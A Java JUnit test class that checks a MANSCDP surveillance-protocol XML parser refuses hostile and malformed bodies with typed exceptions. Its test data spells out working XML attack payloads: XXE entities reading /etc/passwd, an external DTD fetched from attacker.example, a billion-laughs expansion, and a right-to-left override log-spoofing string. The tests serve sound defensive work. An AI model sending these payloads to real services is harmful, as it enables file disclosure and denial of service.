package io.xueliang.ingest.manscdp;

import static io.xueliang.ingest.manscdp.ManscdpGolden.ZONE;
import static io.xueliang.ingest.manscdp.ManscdpGolden.parser;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.xueliang.ingest.manscdp.ManscdpException.Reason;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Hostile and broken bodies: each is refused with the typed exception and its reason, nothing else. */
class ManscdpAttackTest {
    private static final String HEAD = "<?xml version=\"1.0\" encoding=\"GB2312\"?>\n";

    static Stream<Arguments> refusals() {
        String items = "<Item><DeviceID>1</DeviceID></Item>".repeat(1_001);
        return Stream.of(
                Arguments.of("XXE file", HEAD + "<!DOCTYPE Notify [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                        + "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&xxe;</DeviceID></Notify>", Reason.FORBIDDEN_XML),
                Arguments.of("XXE external DTD", HEAD + "<!DOCTYPE Notify SYSTEM \"http://attacker.example/x.dtd\">\n"
                        + "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify>", Reason.FORBIDDEN_XML),
                Arguments.of("XXE lower-case doctype", HEAD + "<!doctype Notify SYSTEM \"file:///etc/passwd\">\n"
                        + "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify>", Reason.MALFORMED_XML),
                Arguments.of("billion laughs", HEAD + "<!DOCTYPE lolz [<!ENTITY lol \"lol\">"
                        + "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                        + "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">"
                        + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>"
                        + "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&lol3;</DeviceID></Notify>", Reason.FORBIDDEN_XML),
                Arguments.of("undeclared entity", "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&lol;</DeviceID></Notify>",
                        Reason.FORBIDDEN_XML),
                Arguments.of("too many items", "<Response><CmdType>Catalog</CmdType><SN>1</SN><DeviceID>1</DeviceID><SumNum>1001</SumNum>"
                        + "<DeviceList Num=\"1001\">" + items + "</DeviceList></Response>", Reason.TOO_MANY_ELEMENTS),
                Arguments.of("too many elements", "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID>"
                        + "<a/>".repeat(20_001) + "</Notify>", Reason.TOO_MANY_ELEMENTS),
                Arguments.of("too deep", "<Notify>" + "<a>".repeat(100) + "</a>".repeat(100) + "</Notify>", Reason.TOO_MANY_ELEMENTS),
                Arguments.of("over-long field", "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>" + "1".repeat(1_025)
                        + "</DeviceID></Notify>", Reason.FIELD_TOO_LONG),
                Arguments.of("over-long attribute", "<Response><CmdType>Catalog</CmdType><SN>1</SN><DeviceID>1</DeviceID>"
                        + "<SumNum>1</SumNum><DeviceList Num=\"" + "9".repeat(2_000) + "\"></DeviceList></Response>", Reason.FIELD_TOO_LONG),
                Arguments.of("over-long whitespace", "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1" + " ".repeat(5_000)
                        + "</DeviceID></Notify>", Reason.FIELD_TOO_LONG),
                Arguments.of("oversized body", "<Notify>" + "<!-- padding -->".repeat(20_000) + "</Notify>", Reason.BODY_TOO_LARGE),
                Arguments.of("not XML", "REGISTER sip:4303 SIP/2.0", Reason.MALFORMED_XML),
                Arguments.of("empty", "", Reason.MALFORMED_XML),
                Arguments.of("unclosed", "<Notify><CmdType>Keepalive</CmdType><SN>1</SN>", Reason.MALFORMED_XML),
                Arguments.of("two roots", "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify><Notify/>",
                        Reason.MALFORMED_XML),
                Arguments.of("unescaped ampersand in a name", "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>A&B</DeviceID></Notify>",
                        Reason.MALFORMED_XML),
                Arguments.of("unknown root", "<Request><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Request>",
                        Reason.UNKNOWN_ROOT),
                Arguments.of("no CmdType", "<Notify><SN>1</SN><DeviceID>1</DeviceID></Notify>", Reason.MISSING_FIELD),
                Arguments.of("no SN", "<Notify><CmdType>Keepalive</CmdType><DeviceID>1</DeviceID></Notify>", Reason.MISSING_FIELD),
                Arguments.of("no DeviceID", "<Notify><CmdType>Keepalive</CmdType><SN>1</SN></Notify>", Reason.MISSING_FIELD),
                Arguments.of("SN not a number", "<Notify><CmdType>Keepalive</CmdType><SN>x1</SN><DeviceID>1</DeviceID></Notify>", Reason.BAD_VALUE),
                Arguments.of("negative SN", "<Notify><CmdType>Keepalive</CmdType><SN>-1</SN><DeviceID>1</DeviceID></Notify>", Reason.BAD_VALUE),
                Arguments.of("SN overflow", "<Notify><CmdType>Keepalive</CmdType><SN>99999999999999999999</SN><DeviceID>1</DeviceID></Notify>",
                        Reason.BAD_VALUE),
                Arguments.of("catalog without SumNum", "<Response><CmdType>Catalog</CmdType><SN>1</SN><DeviceID>1</DeviceID></Response>",
                        Reason.MISSING_FIELD),
                Arguments.of("record query with a bad time", "<Query><CmdType>RecordInfo</CmdType><SN>1</SN><DeviceID>1</DeviceID>"
                        + "<StartTime>yesterday</StartTime><EndTime>2026-12-07T00:00:00</EndTime></Query>", Reason.BAD_VALUE),
                Arguments.of("PTZCmd with a wrong checksum", "<Control><CmdType>DeviceControl</CmdType><SN>1</SN><DeviceID>1</DeviceID>"
                        + "<PTZCmd>A50F0100000000B6</PTZCmd></Control>", Reason.BAD_VALUE),
                Arguments.of("PTZCmd not hex", "<Control><CmdType>DeviceControl</CmdType><SN>1</SN><DeviceID>1</DeviceID>"
                        + "<PTZCmd>A50F01000000ZZB5</PTZCmd></Control>", Reason.BAD_VALUE));
    }

    @ParameterizedTest(name = "{0} -> {2}")
    @MethodSource("refusals")
    void refusedWithTheTypedException(String what, String body, Reason reason) {
        assertThatThrownBy(() -> parser().parse(body.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(ManscdpException.class)
                .satisfies(e -> assertThat(((ManscdpException) e).reason()).isEqualTo(reason));
    }

    @Test
    void xxeNeverReadsTheFile() {
        String body = HEAD + "<!DOCTYPE Notify [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>\n"
                + "<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&xxe;</DeviceID></Notify>";
        assertThatThrownBy(() -> parser().parse(body))
                .isInstanceOf(ManscdpException.class)
                .hasMessageNotContaining(readHostname());
    }

    @Test
    void theExceptionMessageEscapesWhatThePeerSent() {
        // U+202E (right-to-left override) is legal XML but would reverse the rest of a log line
        assertThatThrownBy(() -> parser().parse("<Notify><CmdType>Keepalive</CmdType><SN>1\u202egpj.exe</SN><DeviceID>1</DeviceID></Notify>"))
                .isInstanceOf(ManscdpException.class)
                .hasMessageContaining("1\\u202egpj.exe")
                .satisfies(e -> assertThat(((ManscdpException) e).field()).isEqualTo("SN"));
    }

    @Test
    void limitsAreConfigurable() {
        ManscdpParser strict = new ManscdpParser(new ManscdpLimits(100, 10, 4, 1, 10), ZONE);
        assertThatThrownBy(() -> strict.parse(new byte[101])).isInstanceOf(ManscdpException.class)
                .satisfies(e -> assertThat(((ManscdpException) e).reason()).isEqualTo(Reason.BODY_TOO_LARGE));
    }

    private static String readHostname() {
        try {
            String h = java.nio.file.Files.readString(java.nio.file.Path.of("/etc/hostname")).strip();
            return h.isEmpty() ? "\u0000never" : h;
        } catch (java.io.IOException e) {
            return "\u0000never";
        }
    }
}
